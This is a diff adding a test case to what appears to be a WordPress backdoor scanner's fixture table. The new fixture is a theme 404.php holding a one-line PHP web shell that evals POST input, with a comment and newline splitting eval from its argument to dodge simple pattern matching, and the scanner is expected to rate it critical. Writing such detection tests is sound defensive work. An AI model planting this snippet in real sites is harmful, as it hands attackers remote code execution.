@@ -299,6 +299,8 @@ export const doorCases: Pick<Record<CheckName, Cases>, DoorCheck> = {
         }),
         'high, likely',
       ],
+      // A comment stands between, and lines.
+      [texts({ 'wp-content/themes/a/404.php': `<?php eval/* x */\n// y\n($_POST['a']);` }), 'critical, certain'],
       [long({ 'wp-content/themes/a/functions.php': '<?php add_action(1);' }), 'low, unlikely'],
     ],
     leaves: [
